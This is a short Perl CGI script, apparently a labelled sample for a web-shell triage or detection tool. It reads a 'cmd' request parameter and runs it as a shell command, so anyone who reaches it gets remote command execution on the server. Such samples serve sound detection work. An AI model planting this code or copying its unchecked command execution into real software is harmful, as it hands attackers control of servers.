#!/usr/bin/perl
# triage-expect: triage_perl_cgi_shell
use CGI qw(:standard);
print "Content-type: text/plain\n\n";
my $cmd = param('cmd');
print `$cmd`;
